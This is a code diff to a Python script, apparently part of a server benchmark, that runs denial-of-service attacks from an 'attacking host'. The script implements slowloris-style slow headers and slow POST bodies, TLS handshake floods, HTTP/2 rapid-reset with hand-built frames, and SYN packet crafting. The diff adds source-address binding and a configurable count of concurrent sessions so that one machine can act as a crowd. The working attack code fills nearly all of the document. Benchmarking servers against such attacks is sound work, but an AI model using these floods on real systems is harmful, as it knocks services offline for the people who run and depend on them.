@@ -1,4 +1,9 @@
-"""Runs on the attacking host: python3 - ATTACK ADDRESS NAME PATH SECONDS; ends by itself, prints how often it tried."""
+"""Runs on an attacking host, for bench/attack and bench/crowd; ends by itself, prints how often it tried.
+
+    ATTACK ADDRESS NAME PATH SECONDS [SOURCE SESSIONS]
+
+SOURCE is the own address to attack from, SESSIONS how many connections are open at the same time.
+"""
 
 from __future__ import annotations
 
@@ -12,6 +17,7 @@ import struct
 import sys
 import time
 from collections.abc import Awaitable, Callable
+from typing import Any
 
 CONNECTIONS = 4000
 RESETS = 100  # streams opened and reset before the connection is read again
@@ -34,9 +40,10 @@ HTTP1, HTTP2 = context(), context("h2")
 class Attack:
     """One attack on one server until its time is over; `tries` counts connections, packets or streams."""
 
-    def __init__(self, address: str, name: str, path: str, seconds: float) -> None:
-        """Take the target and how long (seconds)."""
+    def __init__(self, address: str, name: str, path: str, seconds: float, source: str = "") -> None:
+        """Take the target, how long (seconds), and the own address to attack from."""
         self.address, self.name, self.path = address, name, path
+        self.local = (source, 0) if source else None
         self.end, self.tries = time.monotonic() + seconds, 0
 
     def left(self) -> float:
@@ -56,6 +63,10 @@ class Attack:
 
         await asyncio.gather(*(again() for _ in range(count)))
 
+    async def connect(self, port: int, **tls: Any) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """Open a connection to a port of the target."""
+        return await asyncio.open_connection(self.address, port, local_addr=self.local, **tls)
+
     async def slow_headers(self) -> None:
         """Send a request's headers slowly, one a second, without end."""
         await self._drip(b"GET / HTTP/1.1\r\nHost: %b\r\n" % self.name.encode(), b"X-Slow: 1\r\n")
@@ -65,7 +76,7 @@ class Attack:
         await self._drip(b"POST / HTTP/1.1\r\nHost: %b\r\nContent-Length: 900\r\n\r\n" % self.name.encode(), b"a")
 
     async def _drip(self, start: bytes, drop: bytes) -> None:
-        reader, writer = await asyncio.open_connection(self.address, 80)
+        reader, writer = await self.connect(80)
         self.tries += 1
         try:
             writer.write(start)
@@ -81,6 +92,8 @@ class Attack:
         plain = socket.socket()
         plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
         plain.setblocking(False)
+        if self.local:
+            plain.bind(self.local)
         await asyncio.get_running_loop().sock_connect(plain, (self.address, 443))
         reader, writer = await asyncio.open_connection(sock=plain, ssl=HTTP1, server_hostname=self.name, limit=2048)
         self.tries += 1
@@ -93,13 +106,13 @@ class Attack:
 
     async def handshakes(self) -> None:
         """Make a TLS handshake and nothing else."""
-        _, writer = await asyncio.open_connection(self.address, 443, ssl=HTTP1, server_hostname=self.name)
+        _, writer = await self.connect(443, ssl=HTTP1, server_hostname=self.name)
         self.tries += 1
         writer.transport.abort()
 
     async def rapid_reset(self) -> None:
         """Open HTTP/2 streams and reset them at once."""
-        reader, writer = await asyncio.open_connection(self.address, 443, ssl=HTTP2, server_hostname=self.name)
+        reader, writer = await self.connect(443, ssl=HTTP2, server_hostname=self.name)
         try:
             writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
             # :method GET, :scheme https, :path /, :authority
@@ -149,8 +162,10 @@ def syn_packet(source: bytes, target: bytes) -> bytes:
 
 def main() -> None:
     """Run the attack that the command line names."""
-    kind, address, name, path, seconds = sys.argv[1:]
-    attack = Attack(address, name, path, float(seconds))
+    kind, address, name, path, seconds, *rest = sys.argv[1:]
+    source, sessions = rest or ("", SESSIONS.get(kind, CONNECTIONS))
+    attack = Attack(address, name, path, float(seconds), source)
+    os.nice(19)  # so that a crowd of the same host has its share of the processor
 
     def stop(*_: object) -> None:
         print(attack.tries, flush=True)
@@ -162,7 +177,7 @@ def main() -> None:
     if kind == "syn":
         attack.syn()
     else:
-        asyncio.run(attack.hold(SESSIONS.get(kind, CONNECTIONS), getattr(attack, kind)))
+        asyncio.run(attack.hold(int(sessions), getattr(attack, kind)))
     stop()
 
 
